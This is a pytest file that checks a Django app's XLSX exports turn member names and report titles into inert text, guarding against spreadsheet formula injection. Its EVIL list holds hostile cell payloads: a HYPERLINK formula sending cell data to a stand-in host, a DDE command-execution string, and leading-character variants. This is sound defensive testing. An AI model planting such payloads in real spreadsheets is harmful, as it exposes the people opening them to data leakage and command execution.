"""#21.6: a member named ``=HYPERLINK(...)`` is text, never a live formula, in every XLSX the app
produces (member export, dashboard drill-down export, dues ledger, import templates, the inspection
report). Every workbook comes from ``core.xlsx.new_workbook``; a guard keeps it that way."""

from __future__ import annotations

import ast
import io
from pathlib import Path

import pytest
from django.conf import settings
from openpyxl import load_workbook

from assessments.reports.data import ReportDoc, Table
from assessments.reports.xlsx import render_xlsx
from core.xlsx import new_workbook
from tests.factories import MemberFactory

pytestmark = pytest.mark.django_db
EVIL = [
    '=HYPERLINK("http://x/"&A3,"a")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_inert(content: bytes, label: str) -> None:
    cells = _cells(content)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    live = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert not formulas and not live, f"{label}: formulas {formulas} / live text {live}"
    assert any(isinstance(c.value, str) and "HYPERLINK" in c.value for c in cells), f"{label}: the payload is not there"


def test_21_6_member_names_are_text_in_every_export(cast):
    for n, name in enumerate(EVIL):
        MemberFactory(name=name, organization=cast.A, birth_date=cast.member_a_record.birth_date, native_place=f"n{n}")
    secretary, org_admin = cast.client("secretary_a"), cast.client("org_admin_p")
    drill = "metric=party&value=&year=2026"
    responses = {
        "member export": secretary.get("/members/export.xlsx"),
        "dashboard drill-down": org_admin.get(f"/organizations/{cast.P.pk}/dashboard/members/export.xlsx?{drill}"),
        "dues ledger": secretary.get(f"/dues/org/{cast.A.pk}/export.xlsx?year=2026"),
        "dues import template": secretary.get(f"/dues/org/{cast.A.pk}/import/template.xlsx?year=2026"),
    }
    for label, response in responses.items():
        assert response.status_code == 200, label
        body = b"".join(response.streaming_content) if response.streaming else response.content
        if label == "dues import template" or label == "dues ledger":
            cells = _cells(body)
            assert not [c for c in cells if c.data_type == "f"], label
            continue
        _assert_inert(body, label)


def test_21_6_meeting_titles_are_text_in_the_inspection_report(tmp_path):
    doc = ReportDoc(
        title=EVIL[0],
        subtitle="-subtitle",
        facts=[("@fact", EVIL[1])],
        sections=[Table(title="会议", columns=["=col"], rows=[[title] for title in EVIL])],
        summary={},
    )
    path = tmp_path / "report.xlsx"
    render_xlsx(doc, str(path))
    _assert_inert(path.read_bytes(), "inspection report")


def test_21_6_cells_set_directly_are_swept_when_saved():
    workbook = new_workbook()
    sheet = workbook.active
    sheet["A1"] = EVIL[0]
    sheet.cell(row=2, column=1, value="=1+1")
    buffer = io.BytesIO()
    workbook.save(buffer)
    _assert_inert(buffer.getvalue(), "direct cells")


def test_21_6_no_module_makes_a_workbook_but_core_xlsx():
    """Guard: openpyxl's Workbook is constructed in core/xlsx.py only (demo benches excepted)."""
    root = Path(settings.BASE_DIR)
    offenders = []
    for path in root.rglob("*.py"):
        rel = path.relative_to(root).as_posix()
        if rel.startswith((".venv/", "tests/", "demo/", "core/xlsx.py", "var/")) or "/migrations/" in rel:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            imported = isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl")
            if imported and any(alias.name == "Workbook" for alias in node.names):
                offenders.append(f"{rel}:{node.lineno}")
            if isinstance(node, ast.Attribute) and node.attr == "Workbook":
                offenders.append(f"{rel}:{node.lineno}")
    assert not offenders, f"make workbooks with core.xlsx.new_workbook: {offenders}"
